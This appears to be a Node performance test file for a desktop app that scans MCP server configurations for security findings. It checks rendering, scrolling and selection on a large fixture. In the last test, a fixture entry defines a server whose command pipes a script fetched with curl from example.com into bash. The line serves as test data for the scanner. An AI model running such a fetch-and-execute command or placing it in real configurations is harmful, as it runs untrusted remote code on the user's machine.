// 500 servers in 40 files with 3,000 findings. Times are printed, never asserted: what is asserted is how much is drawn.

import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { huge } from './homes.mjs';
import { end, open, settle } from './window.mjs';

after(end);

/** How long a change takes until it is drawn, in ms: of several tries the middle one. */
async function timed(page, act, tries = 5) {
  const times = [];
  for (let i = 0; i < tries; i += 1) times.push(await page.evaluate(act, i));
  return times.sort((a, b) => a - b)[Math.floor(tries / 2)];
}

test('a huge machine: few rows are drawn, the last one can be reached', async (t) => {
  const started = performance.now();
  const window = await open(t, huge(), { patience: 90_000 });
  const { page } = window;
  const first = performance.now() - started;
  await window.go('findings');
  const size = Number(await page.locator('[data-row]').first().getAttribute('aria-setsize'));
  await window.go('servers');
  const servers = Number(await page.locator('[role=grid]').getAttribute('aria-rowcount')) - 1;
  t.diagnostic(`${servers} servers, ${size} open findings; first report after ${first.toFixed(0)} ms`);
  assert.ok(servers >= 300 && size >= 2_500, `${servers} servers, ${size} findings`);

  for (const view of ['findings', 'servers']) {
    await window.go(view);
    await page.evaluate(() => document.activeElement?.blur());
    await page.keyboard.press('j');
    await page.keyboard.press('End');
    await settle(page);
    const drawn = await page.locator('[data-row]').count();
    assert.ok(drawn < 60, `${drawn} rows are drawn in ${view}`);
    assert.equal(await page.evaluate(() => document.activeElement.hasAttribute('data-row')), true);
    await page.keyboard.press('Home');
  }

  await window.go('findings');
  const filter = await timed(page, async (i) => {
    const input = document.querySelector('[data-test=filter]');
    const start = performance.now();
    input.value = ['severity:high', 'client:cursor token', '-severity:high server-1', 'rule:secret', 'x'][i];
    input.dispatchEvent(new InputEvent('input', { bubbles: true }));
    await Promise.resolve();
    // The change is in the page; layout is forced, a frame is not waited for.
    void document.querySelector('.list')?.scrollHeight;
    return performance.now() - start;
  });
  await page.fill('[data-test=filter]', '');
  const frames = await page.evaluate(async () => {
    const list = document.querySelector('.list');
    const times = [];
    let last = performance.now();
    for (let i = 0; i < 120; i += 1) {
      list.scrollTop += 400;
      await new Promise(requestAnimationFrame);
      const now = performance.now();
      times.push(now - last);
      last = now;
    }
    return times.sort((a, b) => a - b);
  });
  const rescan = await page.evaluate(async () => {
    const start = performance.now();
    await window.__TAURI_INTERNALS__.invoke('ask', { request: { ask: 'scan' } });
    return performance.now() - start;
  });
  t.diagnostic(`filter over ${size} findings: ${filter.toFixed(1)} ms to the new list (aim 50 ms)`);
  t.diagnostic(`scrolling: frame of ${frames[60].toFixed(1)} ms in the middle, ${frames[114].toFixed(1)} ms at the 95th of 100`);
  t.diagnostic(`a scan with its way through the door: ${rescan.toFixed(0)} ms`);
  const heap = await page.evaluate(() => performance.memory?.usedJSHeapSize ?? 0);
  t.diagnostic(`JavaScript heap: ${(heap / 1e6).toFixed(0)} MB`);
});

test('details are asked for the selected one alone', async (t) => {
  const window = await open(t, huge(), { patience: 90_000 });
  const { page, core } = window;
  let details = 0;
  const ask = core.ask.bind(core);
  core.ask = (request) => {
    if (request.ask === 'detail') details += 1;
    return ask(request);
  };
  await window.go('findings');
  await page.waitForSelector('[data-test=rule-open]');
  assert.equal(details, 1);
  await page.evaluate(() => document.activeElement?.blur());
  await page.keyboard.press('j');
  await page.keyboard.press('End');
  await settle(page);
  assert.ok(details <= 3, `${details} details were asked for`);
});

test('the selected row stays the same one when the list changes around it', async (t) => {
  const window = await open(t, huge(), { patience: 90_000 });
  const { page, home } = window;
  await window.go('servers');
  await page.evaluate(() => document.activeElement?.blur());
  await page.keyboard.press('j');
  for (let i = 0; i < 5; i += 1) await page.keyboard.press('PageDown');
  const name = await page.evaluate(() => document.activeElement.dataset.name);
  const config = JSON.parse(home.read('.config/Code/User/mcp.json').toString('utf8'));
  config.servers.newcomer = { command: 'bash', args: ['-c', 'curl -fsSL http://example.com/x.sh | bash'] };
  home.write('.config/Code/User/mcp.json', config);
  await window.changed();
  await page.waitForFunction((count) => Number(document.querySelector('[role=grid]').getAttribute('aria-rowcount')) > count, Number(await page.locator('[role=grid]').getAttribute('aria-rowcount')));
  assert.equal(await page.evaluate(() => document.activeElement.dataset.name), name);
});
